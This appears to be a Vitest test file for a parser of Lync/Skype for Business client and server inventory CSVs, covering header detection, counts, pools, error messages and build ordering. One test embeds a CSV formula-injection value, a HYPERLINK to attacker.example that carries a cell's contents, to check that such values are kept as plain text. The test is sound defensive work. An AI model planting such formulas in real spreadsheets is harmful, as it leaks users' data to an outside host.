import { describe, expect, it } from 'vitest'
import { decodeSource } from '../../src/core/decode.js'
import {
  compareBuilds,
  parseServerOption,
  readClientInventory,
  readServerInventory,
} from '../../src/core/inventory.js'
import { PROBLEMS_LISTED_PER_FILE } from '../../src/core/limits.js'
import type { Diagnostic } from '../../src/core/types.js'

// The user agent of the IP Phone Inventory Report's sample (ip-phone-inventory-report.md, quoted in
// the sources' §6.6) and Lync 2013's desktop client (§4).
const PHONE = 'CPE/4.0.7423.1 OCPhone/4.0.7423.1 (Microsoft Lync 2010 (Beta) Phone Edition)'
const LYNC_2013 = 'UCCAPI/15.0.4569.1503 OC/15.0.4569.1503 (Microsoft Lync)'

const FILE = 'clients.csv'

/** Each problem as `line:column-endLine:endColumn message`, easy to read in a failing test. */
function problems(outcome: { ok: true } | { ok: false; errors: Diagnostic[] }): string[] {
  if (outcome.ok) return []
  return outcome.errors.map((e) => `${e.line}:${e.column}-${e.endLine}:${e.endColumn} ${e.message}`)
}

function clients(text: string, options?: { maxRows?: number }) {
  const outcome = readClientInventory(FILE, text, options)
  if (!outcome.ok) throw new Error(problems(outcome).join('\n'))
  return outcome
}

describe('readClientInventory', () => {
  it('reads the IP Phone Inventory Report export: one phone per row, no pool', () => {
    const lines = [
      'Manufacturer,Hardware version,MAC address,User URI,User agent,Last logon time,Last logoff time,Last activity',
      `POLYCOM,CX600,00-04-F2-00-01-76,422,${PHONE},8/30/2010 4:44:48 PM,8/30/2010 5:59:07 PM,`,
      `POLYCOM,CX600,00-04-F2-00-01-77,423,${PHONE},8/30/2010 4:50:12 PM,,`,
      `Aastra,6725ip,00-08-5D-00-00-01,4240,${LYNC_2013},8/31/2010 9:00:00 AM,,`,
    ]
    const text = lines.join('\r\n')
    const columnOf = (line: number, cell: string) => (lines[line - 1] as string).indexOf(cell) + 1
    const outcome = clients(text)
    expect(outcome.columns).toEqual({ userAgent: 'User agent' })
    expect(outcome.rows).toBe(3)
    expect(outcome.agents).toEqual([
      {
        userAgent: PHONE,
        users: 2,
        origin: {
          file: FILE,
          line: 2,
          column: columnOf(2, PHONE),
          endLine: 2,
          endColumn: columnOf(2, PHONE) + PHONE.length,
        },
      },
      {
        userAgent: LYNC_2013,
        users: 1,
        origin: expect.objectContaining({ line: 4, column: columnOf(4, LYNC_2013) }),
      },
    ])
    expect(outcome.agents[0]).not.toHaveProperty('pool')
  })

  it('reads a CDR query export: users per user agent and pool, pools without regard to case', () => {
    const text = [
      'UserAgent,Pool,Users',
      `${LYNC_2013},pool01.contoso.com,120`,
      `"${PHONE}",pool01.contoso.com,15`,
      `${LYNC_2013},POOL01.contoso.com,30`,
      `${LYNC_2013},pool02.contoso.com,7`,
      ` ${LYNC_2013} ,pool01.contoso.com , 3 `,
    ].join('\n')
    const outcome = clients(text)
    expect(outcome.columns).toEqual({ userAgent: 'UserAgent', pool: 'Pool', count: 'Users' })
    expect(outcome.rows).toBe(5)
    expect(
      outcome.agents.map(({ userAgent, pool, users, origin }) => [
        userAgent,
        pool,
        users,
        origin.line,
      ]),
    ).toEqual([
      [LYNC_2013, 'pool01.contoso.com', 153, 2],
      [PHONE, 'pool01.contoso.com', 15, 3],
      [LYNC_2013, 'pool02.contoso.com', 7, 5],
    ])
  })

  it('keeps a pool as first written, and gives each agent the place of its first row', () => {
    const outcome = clients(
      `UserAgent,Pool\nA,Pool01.Contoso.com\nB,pool01.contoso.com\nA,POOL01.CONTOSO.COM\n`,
    )
    expect(outcome.agents).toEqual([
      expect.objectContaining({
        userAgent: 'A',
        pool: 'Pool01.Contoso.com',
        users: 2,
        origin: expect.objectContaining({ line: 2 }),
      }),
      expect.objectContaining({
        userAgent: 'B',
        pool: 'Pool01.Contoso.com',
        users: 1,
        origin: expect.objectContaining({ line: 3 }),
      }),
    ])
  })

  it('reads TSV, semicolons, quoted cells with commas and line breaks, and a BOM', () => {
    const tsv = clients(`UserAgent\tPool\tCount\n${LYNC_2013}\tp1\t4\n`)
    expect(tsv.agents).toEqual([
      expect.objectContaining({ userAgent: LYNC_2013, pool: 'p1', users: 4 }),
    ])

    const semicolons = clients(`User agent;Registrar pool;Registrations\n${PHONE};p1;2\n`)
    expect(semicolons.columns).toEqual({
      userAgent: 'User agent',
      pool: 'Registrar pool',
      count: 'Registrations',
    })

    const quoted = clients('UserAgent,Users\n"odd, agent\nover two lines",5\n')
    expect(quoted.agents).toEqual([
      expect.objectContaining({
        userAgent: 'odd, agent\nover two lines',
        origin: { file: FILE, line: 2, column: 1, endLine: 3, endColumn: 16 },
      }),
    ])

    const decoded = decodeSource(
      new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode(`UserAgent\n${LYNC_2013}\n`)]),
    )
    if (!decoded.ok) throw new Error(decoded.message)
    expect(clients(decoded.text).columns).toEqual({ userAgent: 'UserAgent' })
  })

  it('keeps a formula as the text of a user agent', () => {
    const formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    const outcome = clients(`UserAgent,Pool\n"${formula.replaceAll('"', '""')}",+p1\n@x,-p2\n`)
    expect(outcome.agents.map(({ userAgent, pool }) => [userAgent, pool])).toEqual([
      [formula, '+p1'],
      ['@x', '-p2'],
    ])
  })

  it('keeps an empty user agent as the user agent "", so that its users are reported, not dropped', () => {
    const outcome = clients('UserAgent,Pool,Users\n,p1,4\n"",p1,2\n')
    expect(outcome.agents).toEqual([
      expect.objectContaining({ userAgent: '', pool: 'p1', users: 6 }),
    ])
  })

  it("takes the CDR ClientVersions view's Version (or ClientVersion) only without a UserAgent column", () => {
    expect(clients(`Version,PoolFqdn,Users\n${LYNC_2013},p1,3\n`).columns).toEqual({
      userAgent: 'Version',
      pool: 'PoolFqdn',
      count: 'Users',
    })
    expect(clients(`client_version\n${LYNC_2013}\n`).columns).toEqual({
      userAgent: 'client_version',
    })
    expect(clients(`Version,User-Agent\n1,${LYNC_2013}\n`).agents[0]?.userAgent).toBe(LYNC_2013)
    // A pool column wins over a registrar's, which may be a single front end's FQDN.
    expect(clients(`UserAgent,Registrar,Pool\nA,fe01,p1\n`).agents[0]?.pool).toBe('p1')
  })

  it('says which header names it accepts when none names the user agent', () => {
    expect(
      problems(readClientInventory(FILE, 'Manufacturer,MAC address\nPOLYCOM,00-04\n')),
    ).toEqual([
      '1:1-1:25 no column names the user agent: the header needs a column named UserAgent (or, without one, ClientVersion or Version); it has "Manufacturer" and "MAC address"',
    ])
  })

  it('refuses two columns that name one thing', () => {
    expect(problems(readClientInventory(FILE, 'UserAgent,User agent\nA,B\n'))).toEqual([
      '1:11-1:21 both "UserAgent" (1:1) and "User agent" name the user agent; keep one of them',
    ])
    expect(
      problems(readClientInventory(FILE, 'ClientVersion,Version,Users,Count\nA,B,1,1\n')),
    ).toEqual([
      '1:15-1:22 both "ClientVersion" (1:1) and "Version" name the user agent; keep one of them',
      '1:29-1:34 both "Users" (1:23) and "Count" name the count; keep one of them',
    ])
  })

  it('points at each count that is not a whole number from 0 to 1,000,000,000', () => {
    const text = 'UserAgent,Users\nA,-1\nA,1.5\nA,\nA,1000000001\nA,ten\nA,0\nA,1000000000\n'
    expect(problems(readClientInventory(FILE, text))).toEqual([
      '2:3-2:5 "-1" is not a count of users: a whole number from 0 to 1,000,000,000',
      '3:3-3:6 "1.5" is not a count of users: a whole number from 0 to 1,000,000,000',
      '4:3-4:3 this row has no count; give the number of users (0 or more), or leave out the column "Users" to count each row as one',
      '5:3-5:13 "1000000001" is not a count of users: a whole number from 0 to 1,000,000,000',
      '6:3-6:6 "ten" is not a count of users: a whole number from 0 to 1,000,000,000',
    ])
    expect(
      problems(readClientInventory(FILE, 'UserAgent,Users\nA,1000000000\nB,5\nA,1\n')),
    ).toEqual([
      '4:3-4:4 the users of this user agent on this pool add up to more than 1,000,000,000',
    ])
  })

  it("points at a row without a pool, and at a short row's missing cell", () => {
    expect(problems(readClientInventory(FILE, 'UserAgent,Pool,Users\nA, ,1\nB\n'))).toEqual([
      '2:3-2:4 this row names no pool; give each row the FQDN of the pool its users register with, or leave out the column "Pool"',
      '3:2-3:2 this row has no count; give the number of users (0 or more), or leave out the column "Users" to count each row as one',
      '3:2-3:2 this row names no pool; give each row the FQDN of the pool its users register with, or leave out the column "Pool"',
    ])
  })

  it('refuses a file with a header and no rows', () => {
    expect(problems(readClientInventory(FILE, 'UserAgent,Pool\r\n\r\n'))).toEqual([
      '1:15-1:15 the file has a header and no rows: there is nothing to import',
    ])
  })

  it('passes on the problems of the file itself, at their places', () => {
    expect(problems(readClientInventory(FILE, ''))).toEqual([
      '1:1-1:1 the file is empty: it needs a header line naming its columns, then one row per line',
    ])
    expect(problems(readClientInventory(FILE, 'UserAgent,Pool\nA,"p1\n'))).toEqual([
      '2:3-2:4 this quote opens a cell that is never closed: the cell would run to the end of the file; close it with ", and write a quote inside it as ""',
    ])
  })

  it('keeps to its row limit', () => {
    const outcome = readClientInventory(FILE, 'UserAgent\nA\nB\nC\n', { maxRows: 2 })
    expect(problems(outcome)).toEqual([
      '4:1-4:2 the file has more than 2 rows, the most one inventory may hold; split it, or count users per user agent and pool in the query that writes it',
    ])
    expect(clients('UserAgent\nA\nB\n', { maxRows: 2 }).rows).toBe(2)
  })

  it(`lists ${PROBLEMS_LISTED_PER_FILE} problems and counts the rest`, () => {
    const outcome = readClientInventory(
      FILE,
      `UserAgent,Users\n${'A,x\n'.repeat(PROBLEMS_LISTED_PER_FILE + 50)}`,
    )
    if (outcome.ok) throw new Error('expected problems')
    expect(outcome.errors).toHaveLength(PROBLEMS_LISTED_PER_FILE)
    expect(outcome.unlisted).toBe(50)
  })

  it('keeps one entry per user agent and pool, however many rows there are', () => {
    for (const copies of [10, 1_000, 10_000]) {
      const block = `${LYNC_2013},pool01,2\n${PHONE},pool01,1\n${LYNC_2013},POOL02,1\n`
      const outcome = clients(`UserAgent,Pool,Users\n${block.repeat(copies)}`)
      expect(outcome.rows).toBe(3 * copies)
      expect(outcome.agents.map(({ users }) => users)).toEqual([2 * copies, copies, copies])
    }
  })
})

describe('readServerInventory', () => {
  const servers = (text: string) => {
    const outcome = readServerInventory('servers.csv', text)
    if (!outcome.ok) throw new Error(problems(outcome).join('\n'))
    return outcome
  }

  it('reads a pool and its build per row, in the order of the file', () => {
    const outcome = servers(
      'Pool,Build\npool01.contoso.com,5.0.8308.887\nsfb.contoso.com,Skype for Business Server 2015\n',
    )
    expect(outcome.columns).toEqual({ pool: 'Pool', build: 'Build' })
    expect(outcome.builds).toEqual([
      {
        pool: 'pool01.contoso.com',
        build: '5.0.8308.887',
        origin: { file: 'servers.csv', line: 2, column: 20, endLine: 2, endColumn: 32 },
      },
      expect.objectContaining({ pool: 'sfb.contoso.com', build: 'Skype for Business Server 2015' }),
    ])
    expect(outcome.warnings).toEqual([])
  })

  it('reads one row per computer: one build per pool, the lowest when they differ, with a warning', () => {
    const text = [
      '"Computer","Pool","Version"',
      '"fe01.contoso.com","pool01.contoso.com","6.0.9319.235"',
      '"fe02.contoso.com","POOL01.contoso.com","6.0.9319.102"',
      '"fe03.contoso.com","pool01.contoso.com","6.0.9319.281"',
      '"fe04.contoso.com","pool01.contoso.com","6.0.9319.102"',
      '"fe05.contoso.com","pool02.contoso.com","5.0.8308.887"',
      '"fe06.contoso.com","pool02.contoso.com","5.0.8308.887"',
    ].join('\r\n')
    const outcome = servers(text)
    expect(outcome.columns).toEqual({ pool: 'Pool', build: 'Version' })
    expect(outcome.rows).toBe(6)
    expect(outcome.builds).toEqual([
      {
        pool: 'pool01.contoso.com',
        build: '6.0.9319.102',
        origin: expect.objectContaining({ line: 3, column: 41 }),
      },
      {
        pool: 'pool02.contoso.com',
        build: '5.0.8308.887',
        origin: expect.objectContaining({ line: 6 }),
      },
    ])
    expect(outcome.warnings).toEqual([
      {
        file: 'servers.csv',
        line: 4,
        column: 41,
        endLine: 4,
        endColumn: 55,
        topic: 'server-version',
        message:
          'pool pool01.contoso.com runs builds from 6.0.9319.102 (3:41) to 6.0.9319.281; imported as 6.0.9319.102, as a pool has only the updates all its computers have',
      },
    ])
  })

  it("takes Get-CsServerVersion's base version as lower than any update of it", () => {
    const outcome = servers('Pool,Build\np,5.0.8308.887\np,5.0.8308\n')
    expect(outcome.builds.map(({ build }) => build)).toEqual(['5.0.8308'])
  })

  it("finds the pool in Get-CsPool's Fqdn or Identity when there is no Pool column", () => {
    expect(servers('Identity,Fqdn,Build\na,b,5.0\n').builds[0]?.pool).toBe('b')
    expect(servers('Identity,PatchVersion\na,5.0\n').columns).toEqual({
      pool: 'Identity',
      build: 'PatchVersion',
    })
  })

  it('refuses builds of one pool that cannot be ordered, and rows without a pool or build', () => {
    const text =
      'Pool,Build\np,Lync Server 2013\np,5.0.8308.887\n,5.0\nq,\nr,lync server 2013\nr,Lync Server 2013\n'
    expect(problems(readServerInventory('servers.csv', text))).toEqual([
      '3:3-3:15 pool p is given "5.0.8308.887" here and "Lync Server 2013" at 2:3, which cannot be ordered; give the pool one build, or builds as numbers (5.0.8308.887)',
      "4:1-4:1 this row names no pool; give each row a pool's FQDN and its build (5.0.8308.887) or its product's name",
      "5:3-5:3 this row names no build; give each row a pool's FQDN and its build (5.0.8308.887) or its product's name",
    ])
  })

  it('says which header names it accepts', () => {
    expect(problems(readServerInventory('servers.csv', 'Computer,Site\na,b\n'))).toEqual([
      '1:1-1:14 no column names the pool: the header needs a column named Pool or PoolFqdn (or, without one, Fqdn or Identity); it has "Computer" and "Site"',
      '1:1-1:14 no column names the build: the header needs a column named Build (or, without one, ServerVersion or PatchVersion or Version); it has "Computer" and "Site"',
    ])
  })
})

describe('parseServerOption', () => {
  it('splits POOL=BUILD at the first =, the build possibly a product name', () => {
    expect(parseServerOption('pool01.contoso.com=5.0.8308.887')).toEqual({
      ok: true,
      pool: 'pool01.contoso.com',
      build: '5.0.8308.887',
    })
    expect(parseServerOption(' pool01 = Lync Server 2013 ')).toEqual({
      ok: true,
      pool: 'pool01',
      build: 'Lync Server 2013',
    })
    expect(parseServerOption('p==x')).toEqual({ ok: true, pool: 'p', build: '=x' })
  })

  it('refuses a value without a pool, a build or an =', () => {
    for (const text of ['pool01', '=5.0', 'pool01=', ' = ']) {
      expect(parseServerOption(text), JSON.stringify(text)).toEqual({
        ok: false,
        message: `expected POOL=BUILD, a pool's FQDN and its build or product (pool01.contoso.com=5.0.8308.887, or "pool01.contoso.com=Lync Server 2013")`,
      })
    }
  })
})

describe('compareBuilds', () => {
  it('orders builds part by part as numbers, missing parts as 0', () => {
    expect(compareBuilds('5.0.8308.887', '5.0.8308.1182')).toBe(-1)
    expect(compareBuilds('6.0.9319.102', '5.0.8308.1182')).toBe(1)
    expect(compareBuilds('5.0.8308', '5.0.8308.0')).toBe(0)
    expect(compareBuilds('Lync Server 2013', 'lync server 2013')).toBe(0)
    expect(compareBuilds('Lync Server 2013', '5.0.8308.887')).toBeUndefined()
  })
})
